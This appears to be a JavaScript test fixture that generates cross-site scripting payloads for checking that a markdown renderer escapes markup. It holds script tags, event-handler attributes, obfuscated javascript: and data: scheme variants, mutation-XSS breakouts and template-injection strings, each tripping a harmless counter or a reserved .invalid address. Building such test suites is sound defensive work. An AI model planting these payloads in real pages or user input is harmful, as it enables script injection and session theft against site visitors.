// Families of markup that would run script if any part of it reached the page as markup. Each calls window.__xss
// or asks for an address under http://xss.invalid/, so that a hit is noticed.

const RUN = "window.__xss=(window.__xss||0)+1";
const TAGS = ["img", "svg", "body", "video", "audio", "iframe", "input", "details", "marquee", "object", "embed", "select", "math", "form", "a", "div"];
const EVENTS = ["onerror", "onload", "onfocus autofocus tabindex=1", "onmouseover", "ontoggle open", "onstart", "onanimationstart style=animation-name:breathe", "onpointerenter"];
const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "%6Aavascript:", "javascript:/*http://x*/", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:http://x/", "file:///", "view-source:javascript:", "feed:javascript:", "//xss.invalid/", "http://xss.invalid\\@"];

function breakouts() {
  const bare = [
    `<script>${RUN}</script>`,
    `<SCRIPT SRC=http://xss.invalid/x.js></SCRIPT>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg/onload=${RUN}>`,
    `<img src=http://xss.invalid/a.png>`,
    `<img/src='x'/onerror='${RUN}'>`,
    `<iframe srcdoc="<script>parent.${RUN.replaceAll("window.", "parent.")}</script>"></iframe>`,
    `<iframe src="javascript:parent.__xss=1"></iframe>`,
    `<link rel=stylesheet href=http://xss.invalid/x.css>`,
    `<style>@import 'http://xss.invalid/y.css';</style>`,
    `<style>*{background:url(http://xss.invalid/bg)}</style>`,
    `<base href=http://xss.invalid/>`,
    `<meta http-equiv=refresh content="0;url=http://xss.invalid/">`,
    `<form action=http://xss.invalid/><input type=submit autofocus></form>`,
    `<object data=javascript:${RUN}>`,
    `<template><script>${RUN}</script></template>`,
    `<math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `"><img src=x onerror=${RUN}>`,
    `'><svg onload=${RUN}>`,
    `</textarea><img src=x onerror=${RUN}>`,
    `</title><script>${RUN}</script>`,
    `</option></select><img src=x onerror=${RUN}>`,
    `</code></pre><script>${RUN}</script>`,
    `\${alert(1)}`,
    `{{constructor.constructor('${RUN}')()}}`,
    "<!--?lit$123$--><img src=x onerror=" + RUN + ">",
    "{{lit-1}}",
    "\u2028<script>" + RUN + "</script>",
    "\u202e<img src=x onerror=" + RUN + ">",
    `\ufeff<script>${RUN}</script>`,
    "&lt;img src=x onerror=" + RUN + "&gt;",
    "&#60;script&#62;" + RUN + "&#60;/script&#62;",
    "%3Cscript%3E" + RUN + "%3C/script%3E",
    "\\u003cscript\\u003e" + RUN + "\\u003c/script\\u003e",
    "__proto__",
    "constructor",
  ];
  for (const tag of TAGS) for (const event of EVENTS) bare.push(`<${tag} src=x href=x data=x ${event.replace(/^(\w+)/, `$1="${RUN}"`)}>`);
  return bare;
}

function links() {
  const list = [];
  for (const scheme of SCHEMES) {
    const address = `${scheme}${RUN}`;
    list.push(`[click](${address})`, `[click](<${address}>)`, `![pic](${address})`, `<${address}>`, `[click](${address} "title")`, `[![pic](${address})](${address})`, `[r]\n\n[r]: ${address}`, `<a href="${address}">x</a>`);
  }
  return list;
}

/** Markup wrapped in the constructs of markdown, where a renderer is most likely to forget to escape. */
function wrapped(bare) {
  const wraps = [
    (text) => `**${text}**`,
    (text) => `\`${text}\``,
    (text) => `\`\`\`${text}\n${text}\n\`\`\``,
    (text) => `\`\`\`html" onmouseover="${RUN}\n${text}`,
    (text) => `> ${text}`,
    (text) => `- [ ] ${text}`,
    (text) => `# ${text}`,
    (text) => `| a | b |\n|---|:-:|\n| ${text.replaceAll("|", "")} | x |`,
    (text) => `[${text}](https://example.org/)`,
    (text) => `![${text}](https://xss.invalid/p.png)`,
    (text) => `[x](https://example.org/"onmouseover="${RUN})`,
    (text) => `https://example.org/${text}`,
    (text) => `1. ${text}\n   ${text}`,
  ];
  return wraps.flatMap((wrap, at) => bare.filter((_, index) => index % wraps.length === at || index < 8).map(wrap));
}

export function xssPayloads() {
  const bare = breakouts();
  return [...new Set([...bare, ...links(), ...wrapped(bare)])];
}
